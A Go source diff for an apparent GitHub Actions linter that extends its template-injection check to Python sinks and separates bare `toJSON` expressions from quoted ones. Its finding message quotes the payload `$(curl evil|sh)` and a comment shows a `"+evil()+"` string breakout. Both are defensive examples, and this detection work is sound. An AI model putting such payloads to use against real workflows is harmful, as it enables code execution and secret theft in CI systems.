@@ -20,9 +20,9 @@ type sink struct {
 	v *workflow.Value
 	// where names it in messages: "bash run: script", "actions/github-script script".
 	where string
-	// js is set for JavaScript sinks, where `${{ toJSON(x) }}` alone is a
-	// literal and not code.
-	js bool
+	// literal is set for JavaScript and Python sinks, where
+	// `${{ toJSON(x) }}` outside a string literal is a literal value.
+	literal bool
 }
 
 func (templateInjection) Run(_ context.Context, snap *repo.Snapshot) ([]Finding, error) {
@@ -66,7 +66,8 @@ func (templateInjection) Run(_ context.Context, snap *repo.Snapshot) ([]Finding,
 func sinksOf(f *workflow.File, j *workflow.Job, s *workflow.Step) []sink {
 	var out []sink
 	if s.Run != nil {
-		out = append(out, sink{v: s.Run, where: shellName(f, j, s) + "run: script"})
+		sh := shellName(f, j, s)
+		out = append(out, sink{v: s.Run, where: sh + "run: script", literal: strings.HasPrefix(sh, "python")})
 	}
 	if s.Shell != nil && strings.Contains(s.Shell.Value, "${{") {
 		out = append(out, sink{v: s.Shell, where: "shell: command"})
@@ -76,7 +77,7 @@ func sinksOf(f *workflow.File, j *workflow.Job, s *workflow.Step) []sink {
 			if k := knowledge.SinkFor(u.Name()); k != nil {
 				for i := range s.With {
 					if k.Runs(s.With[i].Key.Value) {
-						out = append(out, sink{v: &s.With[i].Value, js: k.Language == "javascript",
+						out = append(out, sink{v: &s.With[i].Value, literal: k.Language == "javascript" || k.Language == "python",
 							where: fmt.Sprintf("%s %s input (%s code)", u.Name(), s.With[i].Key.Value, k.Language)})
 					}
 				}
@@ -111,10 +112,8 @@ func injections(e *engine, f *workflow.File, k sink, sc scope) []Finding {
 	offs := workflow.ExprPositions(f.Source.Src, k.v)
 	var out []Finding
 	for i, x := range exprs {
-		if k.js {
-			if n := x.Parse(); n.IsCall("tojson") {
-				continue
-			}
+		if k.literal && jsonLiteral(k.v.Value, x) {
+			continue
 		}
 		var worst taint
 		var which string
@@ -145,4 +144,26 @@ func injectionMessage(which string, t taint, where string) string {
 	}
 	return fmt.Sprintf("%s carries %s, which is attacker-controlled, and is expanded into a %s: "+
 		"text like `$(curl evil|sh)` runs as code; %s", which, t.origin, where, fix)
+}
+
+// jsonLiteral reports whether an expression is `toJSON(…)` standing on its
+// own in JavaScript or Python code: JSON is a literal there. Between
+// quotes it is not: `"${{ toJSON(x) }}"` lets `"+evil()+"` out.
+func jsonLiteral(code string, x workflow.Expr) bool {
+	if !x.Parse().IsCall("tojson") {
+		return false
+	}
+	before := strings.TrimRight(code[:x.Offset], " \t")
+	after := strings.TrimLeft(code[x.Offset+len(x.Raw):], " \t")
+	quote := func(s string, last bool) bool {
+		if s == "" {
+			return false
+		}
+		c := s[0]
+		if last {
+			c = s[len(s)-1]
+		}
+		return c == '"' || c == '\'' || c == '`'
+	}
+	return !quote(before, true) && !quote(after, false)
 }
